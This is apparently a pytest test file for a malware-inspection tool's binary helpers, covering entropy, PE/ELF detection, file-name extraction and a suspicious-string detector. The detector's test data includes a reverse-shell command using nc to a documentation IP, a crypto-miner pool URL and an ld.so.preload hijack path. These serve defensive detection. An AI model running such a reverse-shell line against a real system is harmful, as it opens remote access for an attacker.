"""Shared binary helpers: bounded entropy, executable magic, claimed file names, notable strings, limits."""

from __future__ import annotations

import hashlib

import pytest

from inspector.analyzers.binary_common import (
    BinaryLimits,
    claimed_file_name,
    entropy,
    file_extension,
    is_elf_at,
    is_pe_at,
    notable_strings,
)
from inspector.config import Settings
from inspector.model import Artifact, ArtifactType
from tests.binaries.elf_builder import build_elf
from tests.binaries.pe_builder import build_pe


def test_entropy_of_known_distributions() -> None:
    assert entropy(b"") == 0.0
    assert entropy(b"\x00" * 1000) == 0.0
    assert entropy(b"\x00\x01" * 500) == 1.0
    assert entropy(bytes(range(256)) * 16) == 8.0


def test_entropy_of_large_regions_is_sampled_and_close() -> None:
    noise = b"".join(hashlib.sha256(i.to_bytes(4, "little")).digest() for i in range(200_000))  # 6.4 MB
    sampled = entropy(noise, sample_bytes=64 * 1024)
    assert 7.99 <= sampled <= 8.0
    assert entropy(b"\x00" * 10_000_000, sample_bytes=4096) == 0.0


def test_executable_magic_checks() -> None:
    pe = build_pe().data
    assert is_pe_at(pe) and is_pe_at(b"xx" + pe, 2) and not is_pe_at(pe, 1)
    assert not is_pe_at(b"MZ" + b"\x00" * 100)  # no PE header behind the MZ
    assert is_elf_at(build_elf().data) and not is_elf_at(b"\x7fELF\x03\x01\x01")


def _artifact(url: str | None, origin: str) -> Artifact:
    return Artifact(sha256="0" * 64, size=1, type=ArtifactType.PE, origin=origin, url=url)


@pytest.mark.parametrize(("url", "origin", "expected"), [
    ("https://a.blob.core.windows.net/c/Update.TXT?sv=2022&sig=[REDACTED]", "fileUris[0]", "update.txt"),
    ("https://example.invalid/dl/a%20b.png", "fileUris[1]", "a b.png"),
    ("https://example.invalid/", "zip:tools/agent.exe", "agent.exe"),
    (None, "zip:tools/agent.exe", "agent.exe"),
    (None, "protectedSettings.commandToExecute", None),
    (None, "decoded:base64", None),
    ("https://example.invalid/download", "fileUris[0]", None),
])
def test_claimed_file_name(url: str | None, origin: str, expected: str | None) -> None:
    assert claimed_file_name(_artifact(url, origin)) == expected


def test_file_extension() -> None:
    assert (file_extension("a.tar.GZ"), file_extension("noext"), file_extension(".bashrc")) == (".gz", "", "")


def test_notable_strings_by_category() -> None:
    data = (b"\x00stratum+tcp://xmr.example.invalid:3333\x00/etc/ld.so.preload\x00"
            b"nc -e /bin/sh 203.0.113.1 4444\x00bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq\x00")
    found = notable_strings(data, max_bytes=len(data), max_strings=8, timeout=1.0)
    assert found == {
        "miner": ["stratum+tcp://xmr.example.invalid:3333"],
        "wallet": ["bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"],
        "reverse_shell": ["nc -e /bin/sh"],
        "preload_hijack": ["/etc/ld.so.preload"],
    }


def test_secrets_in_notable_strings_are_redacted() -> None:
    data = b"\x00stratum+tcp://pool.example.invalid:3333/?password=Hunter2Secret\x00"
    found = notable_strings(data, max_bytes=len(data), max_strings=4, timeout=1.0)
    assert "Hunter2Secret" not in repr(found)
    assert found["miner"] == ["stratum+tcp://pool.example.invalid:3333/?password=[REDACTED]"]


def test_every_pool_name_contains_a_prefilter_anchor() -> None:
    from inspector.analyzers.binary_common import _POOL_ANCHORS, _POOLS

    assert all(any(anchor in pool for anchor in _POOL_ANCHORS) for pool in _POOLS)


@pytest.mark.parametrize("text", [b"XMRig/6.21", b"POOL.SUPPORTXMR.COM:443", b"CryptoNight/R", b"RandomX"])
def test_case_insensitive_evidence_is_found_through_the_lowered_copy(text: bytes) -> None:
    found = notable_strings(b"\x00" + text + b"\x00", max_bytes=100, max_strings=4, timeout=1.0)
    assert found["miner"] and found["miner"][0] in text.decode()


def test_limits_come_from_settings() -> None:
    limits = BinaryLimits.from_settings(Settings(pe_max_imports=10, embedded_max_blobs=3, max_artifact_bytes=4096))
    assert (limits.max_imports, limits.max_embedded_blobs, limits.max_child_bytes) == (10, 3, 4096)
    assert BinaryLimits.from_settings(Settings()) == BinaryLimits()
